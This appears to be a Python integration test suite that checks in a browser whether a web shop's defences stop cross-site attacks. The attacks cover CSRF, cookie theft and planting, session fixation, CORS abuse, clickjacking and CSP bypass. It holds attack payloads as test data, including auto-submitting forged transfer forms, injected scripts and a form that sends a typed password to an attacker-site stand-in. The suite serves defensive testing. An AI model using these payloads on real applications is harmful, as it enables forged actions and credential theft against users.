"""What pages of other sites try on an application, and what a real browser lets them do.

Each check is tried twice: on an application that is guarded, and on the same application without the guard, where the
attack has to succeed. One that fails there would show nothing.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

from tests.integration.stage import CHECKS, CLIENT, EVIL, SHOP, SUBDOMAIN, Stage, check
from tests.services.browser import BrowserError, Page

__all__ = ["CHECKS"]

# Cookies. Without the guard, they are set as carelessness sets them.


def _with_cookie(stage: Stage) -> Page:
    return stage.visit("/cookies/set" if stage.guarded else "/cookies/set/careless")


@check("a script reads the cookie", "HttpOnly", guarded="none", bare="id=ada")
def _(stage: Stage) -> str:
    return str(_with_cookie(stage).evaluate("document.cookie") or "none")


@check("a form on another site is sent with the cookie", "SameSite=Lax", guarded="none", bare="id=ada")
def _(stage: Stage) -> str:
    _with_cookie(stage)
    return stage.foreign(EVIL, _form(stage.shop("/cookies")), documents=2).text


@check("a script on another site fetches with the cookie", "SameSite=Lax", guarded="none", bare="id=ada")
def _(stage: Stage) -> str:
    _with_cookie(stage)
    stage.fetched(stage.foreign(EVIL), "/cookies", mode="no-cors", credentials="include")
    return stage.ask("/cookies/last")[0]


@check("an image on another site is fetched with the cookie", "SameSite=Lax", guarded="none", bare="id=ada")
def _(stage: Stage) -> str:
    _with_cookie(stage)
    stage.foreign(EVIL, f"<img src={stage.shop('/cookies')}>")
    return stage.ask("/cookies/last")[0]


@check(
    "a link on another site is followed with the cookie",
    "SameSite=Lax, not Strict",
    guarded="__Host-id=ada",
    bare="none",
)
def _(stage: Stage) -> str:
    stage.visit("/cookies/set" if stage.guarded else "/cookies/set/strict")
    page = stage.foreign(EVIL, f"<a href={stage.shop('/cookies')}>look</a>")
    with page.loading():
        page.evaluate("document.querySelector('a').click()")
    return page.text


@check("a subdomain plants the cookie", "__Host-", guarded="none", bare="id=mallory")
def _(stage: Stage) -> str:
    name = "__Host-id" if stage.guarded else "id"
    page = stage.foreign(SUBDOMAIN)
    page.evaluate(f"document.cookie = '{name}=mallory; Domain={SHOP}; Path=/; Secure'")
    return stage.visit("/cookies").text


# CSRF. The cookie is SameSite=None, so that browsers do send it.


def _form(action: str, **attributes: str) -> str:
    """A form that is sent as soon as the page is there."""
    more = " ".join(f'{name}="{value}"' for name, value in attributes.items())
    return (
        f'<form action="{action}" method="post" {more}><input name="to" value="mallory"></form>'
        "<script>onload = () => document.forms[0].submit()</script>"
    )


def _transferred(stage: Stage) -> str:
    return ", ".join(json.loads(stage.ask("/transfers")[0])) or "nothing"


@check("a page on another site sends a form", "csrf", guarded="403, nothing", bare="200, ada to mallory")
def _(stage: Stage) -> str:
    stage.visit("/account")
    page = stage.foreign(EVIL, _form(stage.shop("/transfer")), documents=2)
    return f"{page.status}, {_transferred(stage)}"


@check("a page on a subdomain sends a form", "csrf", guarded="403, nothing", bare="200, ada to mallory")
def _(stage: Stage) -> str:
    stage.visit("/account")
    page = stage.foreign(SUBDOMAIN, _form(stage.shop("/transfer")), documents=2)
    return f"{page.status}, {_transferred(stage)}"


@check("a page on another site sends a form out of a sandbox", "csrf", guarded="nothing", bare="ada to mallory")
def _(stage: Stage) -> str:
    stage.visit("/account")
    inner = _form(stage.shop("/transfer")).replace('"', "&quot;")
    frame = f'<iframe sandbox="allow-forms allow-scripts" onload="loads++" srcdoc="{inner}"></iframe>'
    # Its own document, and then what the form is answered with.
    stage.foreign(EVIL, f"<script>loads = 0</script>{frame}").until("loads == 2")
    return _transferred(stage)


@check("a script on another site posts a form's fields", "csrf", guarded="nothing", bare="ada to mallory")
def _(stage: Stage) -> str:
    stage.visit("/account")
    fields = {"content-type": "application/x-www-form-urlencoded"}
    options: dict[str, Any] = {
        "method": "POST",
        "mode": "no-cors",
        "credentials": "include",
        "headers": fields,
        "body": "to=mallory",
    }
    stage.fetched(stage.foreign(EVIL), "/transfer", **options)
    return _transferred(stage)


@check("a page of a listed origin sends a form", "csrf", guarded="200, ada to mallory", bare="200, ada to mallory")
def _(stage: Stage) -> str:
    stage.visit("/account")
    page = stage.foreign(CLIENT, _form(stage.shop("/transfer")), documents=2)
    return f"{page.status}, {_transferred(stage)}"


@check("the application's own page sends the form", "csrf", guarded="200, ada to bob", bare="200, ada to bob")
def _(stage: Stage) -> str:
    page = stage.visit("/account", "/transfer")
    page.submit(values={"to": "bob"})
    return f"{page.status}, {_transferred(stage)}"


# The kernel takes no JSON that is called something else, so that pages of other sites need a permission to send any.


@check("a form on another site passes for JSON", "the kernel", guarded="415, {}", bare='200, {"city":"=Gotham"}')
def _(stage: Stage) -> str:
    stage.visit("/account")
    action = stage.shop("/profile" if stage.guarded else "/profile/careless")
    form = _form(action, enctype="text/plain").replace(
        'name="to" value="mallory"', """name='{"city": "' value='Gotham"}'"""
    )
    page = stage.foreign(EVIL, form, documents=2)
    return f"{page.status}, {stage.ask('/profile')[0]}"


# Sessions. Without the guard, the application is careless.


@check("an id that was planted before the login is used after it", "rotation", guarded="nobody", bare="ada")
def _(stage: Stage) -> str:
    _, planted = stage.ask("/visit")
    name, _, value = planted.partition("=")
    page = stage.visit("/")
    page.send("Network.setCookie", {"url": stage.shop(), "name": name, "value": value, "secure": True, "path": "/"})
    assert page.cookies()[name]["value"] == value
    page.navigate(stage.shop("/login"))
    if not stage.guarded:
        page.evaluate("document.forms[0].action = '/login/careless'")
    page.submit(values={"user": "ada"})
    page.navigate(stage.shop("/who"))
    assert page.text == "ada"
    return stage.ask("/who", planted)[0]


@check("an id that was copied is used after the logout", "destroy()", guarded="nobody", bare="ada")
def _(stage: Stage) -> str:
    page = stage.visit("/login")
    page.submit(values={"user": "ada"})
    copied = f"__Host-session={page.cookies()['__Host-session']['value']}"
    assert stage.ask("/who", copied)[0] == "ada"
    page.evaluate(f"fetch('/logout{'' if stage.guarded else '/careless'}', {{method: 'POST'}}).then(() => 0)")
    assert "__Host-session" not in page.cookies()
    return stage.ask("/who", copied)[0]


# CORS. Without the guard, the other site is on the list as well.


@check("a page of a listed origin reads", "cors", guarded='{"of":"ada"}', bare='{"of":"ada"}')
def _(stage: Stage) -> str:
    stage.visit("/account")
    return stage.fetched(stage.foreign(CLIENT), "/orders", "response.text()", credentials="include")


@check("a page of another origin reads", "cors", guarded="refused by the browser", bare='{"of":"ada"}')
def _(stage: Stage) -> str:
    stage.visit("/account")
    return stage.fetched(stage.foreign(EVIL), "/orders", "response.text()", credentials="include")


def _put(stage: Stage, site: str) -> str:
    stage.visit("/account")
    seen = stage.fetched(
        stage.foreign(site), "/profile", method="PUT", credentials="include", body='{"city":"Turin"}',
        headers={"content-type": "application/json"},
    )  # fmt: skip
    return f"{seen}, {stage.ask('/profile')[0]}"


@check(
    "a page of a listed origin sends JSON by PUT", "cors", guarded='200, {"city":"Turin"}', bare='200, {"city":"Turin"}'
)
def _(stage: Stage) -> str:
    return _put(stage, CLIENT)


@check(
    "a page of another origin sends JSON by PUT",
    "cors",
    guarded="refused by the browser, {}",
    bare='200, {"city":"Turin"}',
)
def _(stage: Stage) -> str:
    return _put(stage, EVIL)


@check("a page of a listed origin sets a header that is not", "cors", guarded="refused by the browser", bare="200")
def _(stage: Stage) -> str:
    name = "x-debug" if stage.guarded else "content-type"
    return stage.fetched(stage.foreign(CLIENT), "/orders", headers={name: "application/json"})


@check("a listed origin sees the headers that are exposed, no others", "cors", guarded="3, null", bare="3, null")
def _(stage: Stage) -> str:
    show = "`${response.headers.get('x-total')}, ${response.headers.get('x-internal')}`"
    return stage.fetched(stage.foreign(CLIENT), "/orders", show)


@check("a listed origin reads errors: 404, 500, 405", "cors", guarded="404, 500, 405", bare="404, 500, 405")
def _(stage: Stage) -> str:
    page = stage.foreign(CLIENT)
    seen = [stage.fetched(page, path) for path in ("/missing", "/broken")]
    return ", ".join([*seen, stage.fetched(page, "/orders", method="POST")])


# WebSockets, which no policy of the browser keeps from other sites.


@check("a page on another site opens a WebSocket", "the kernel", guarded="refused", bare="heard ada")
def _(stage: Stage) -> str:
    stage.visit("/account")
    url = stage.shop("/socket" if stage.guarded else "/socket/careless").replace("https:", "wss:")
    return str(
        stage.foreign(EVIL).evaluate(
            f"new Promise(done => {{ const socket = new WebSocket({json.dumps(url)});"
            "socket.onmessage = event => done('heard ' + event.data); socket.onerror = () => done('refused'); })"
        )
    )


# Content Security Policy. Without the guard, it only reports.


def _injected(stage: Stage, html: str, done: str = "true", path: str = "/comment") -> str:
    page = stage.visit(f"{path}?text={quote(html)}")
    page.evaluate(done)
    return f"{'run' if page.evaluate('window.ran === true') else 'refused'}, {_reported(page)}"


def _reported(page: Page) -> str:
    texts = [message.text.lower() for message in page.messages if message.source in ("security", "javascript", "other")]
    found = [text for text in texts if "content security policy" in text]
    if not found:
        return "not reported"
    return "reported only" if all("report-only" in text or "report only" in text for text in found) else "reported"


@check("a script is injected", "strict profile", guarded="refused, reported", bare="run, reported only")
def _(stage: Stage) -> str:
    return _injected(stage, "<script>ran = true</script>")


@check(
    "a script is injected with a nonce of another page",
    "strict profile",
    guarded="refused, reported",
    bare="run, reported only",
)
def _(stage: Stage) -> str:
    page = stage.visit("/greeting")
    nonce = page.evaluate("document.scripts[0].nonce")
    assert nonce
    return _injected(stage, f"<script nonce={nonce}>ran = true</script>", path="/greeting")


@check("a script of another site is injected", "strict profile", guarded="refused, reported", bare="run, reported only")
def _(stage: Stage) -> str:
    return _injected(stage, f"<script src={stage.sites.file(EVIL, 'ran = true', 'text/javascript')}></script>")


@check("an event handler is injected", "strict profile", guarded="refused, reported", bare="run, reported only")
def _(stage: Stage) -> str:
    return _injected(stage, "<img src=/missing onerror='ran = true'>")


@check("a link with a script is injected", "strict profile", guarded="refused, reported", bare="run, reported only")
def _(stage: Stage) -> str:
    return _injected(stage, "<a href='javascript:void(ran = true)'>look</a>", "document.querySelector('a').click()")


@check(
    "a form that sends what is typed elsewhere is injected", "strict profile", guarded="refused, reported", bare="sent"
)
def _(stage: Stage) -> str:
    action = stage.sites.page(EVIL, "thank you")
    page = stage.visit(f"/comment?text={quote(f'<form action={action}><input name=password></form>')}")
    if stage.guarded:
        page.evaluate("document.forms[0].submit()")
        page.browser.wait(lambda: _reported(page) != "not reported", "the form is refused")
        return f"refused, {_reported(page)}"
    with page.loading():
        page.evaluate("document.forms[0].submit()")
    return "sent" if page.text == "thank you" else page.text


@check("a page's own script has the nonce", "csp_nonce", guarded="run, not reported", bare="run, not reported")
def _(stage: Stage) -> str:
    page = stage.visit("/greeting")
    return f"{'run' if page.evaluate('window.greeted === true') else 'refused'}, {_reported(page)}"


@check("the documentation page is shown", "openapi, strict profile", guarded="no complaint", bare="no complaint")
def _(stage: Stage) -> str:
    page = stage.visit("/docs")
    assert "/orders" in page.text
    return "; ".join(page.errors()) or "no complaint"


# Compression.


@check("events come one by one", "compression", guarded="one, two, three; zstd", bare="one, two, three; as they are")
def _(stage: Stage) -> str:
    page = stage.visit("/")
    page.evaluate(
        "heard = []; source = new EventSource('/events'); source.onmessage = event => { heard.push(event.data);"
        "fetch('/events/' + event.data, {method: 'POST'}); if (heard.length == 3) source.close(); }; 0"
    )
    page.until("heard.length == 3")
    return f"{', '.join(page.evaluate('heard'))}; {page.headers('/events').get('content-encoding', 'as they are')}"


# Headers that are constant.


@check("a page on another site shows the application in a frame", "security_headers", guarded="refused", bare="Welcome")
def _(stage: Stage) -> str:
    page = stage.foreign(EVIL, f'<script>loads = 0</script><iframe onload="loads++" src="{stage.shop()}"></iframe>')
    page.until("loads == 1")
    return ", ".join(page.frames()) or "refused"


@check("text is run as a script", "security_headers", guarded="refused", bare="run")
def _(stage: Stage) -> str:
    page = stage.visit("/")
    page.evaluate(
        "new Promise(done => { const script = document.createElement('script'); script.src = '/upload.txt';"
        "script.onload = script.onerror = () => done(0); document.body.append(script); })"
    )
    return "run" if page.evaluate("window.ran") else "refused"


@check("a page on another site embeds what the application has", "strict profile", guarded="refused", bare="embedded")
def _(stage: Stage) -> str:
    # A response that a script may not look at has no status for it.
    seen = stage.fetched(stage.foreign(EVIL), "/upload.txt", mode="no-cors")
    return {"0": "embedded", "refused by the browser": "refused"}.get(seen, seen)


@check("a page uses the camera", "strict profile", guarded="False", bare="True")
def _(stage: Stage) -> str:
    return str(stage.visit("/").evaluate("document.featurePolicy.allowsFeature('camera')"))


@check("a site that a link leads to is told where it was", "security_headers", guarded="nothing", bare="the origin")
def _(stage: Stage) -> str:
    page = stage.visit("/")
    with page.loading():
        page.evaluate(f"location = {json.dumps(stage.sites.page(EVIL, 'elsewhere'))}")
    told = page.evaluate("document.referrer")
    return str({"": "nothing", stage.shop("/"): "the origin"}.get(told, told))


@check("a page on another site leads a window astray", "security_headers", guarded="cut off", bare="led astray")
def _(stage: Stage) -> str:
    page, browser = stage.foreign(EVIL), stage.browser

    def shown(title: str) -> bool:
        return any(target["title"] == title for target in browser.targets())

    page.evaluate(f"opened = window.open({json.dumps(stage.shop())}); 0")
    browser.wait(lambda: shown("Shop"), "the window has the application's page")
    elsewhere = stage.sites.file(EVIL, "<!doctype html><title>Shap</title>", "text/html")
    page.evaluate(f"opened.location = {json.dumps(elsewhere)}; 0")
    browser.wait(lambda: shown("Shap") or page.evaluate("opened.closed"), "the window is cut off, or has another page")
    return "led astray" if shown("Shap") else "cut off"


@check("http is left for https, at the second visit", "strict profile", guarded="https", bare="refused")
def _(stage: Stage) -> str:
    # The browser remembers it for longer than its cookies, so each has a name of its own.
    site = "guarded.example" if stage.guarded else "bare.example"
    page = stage.browser.open()
    page.navigate(stage.app.url(site))
    try:
        page.navigate(stage.app.url(site).replace("https:", "http:"))
    except BrowserError:
        return "refused"
    return page.url.partition(":")[0]
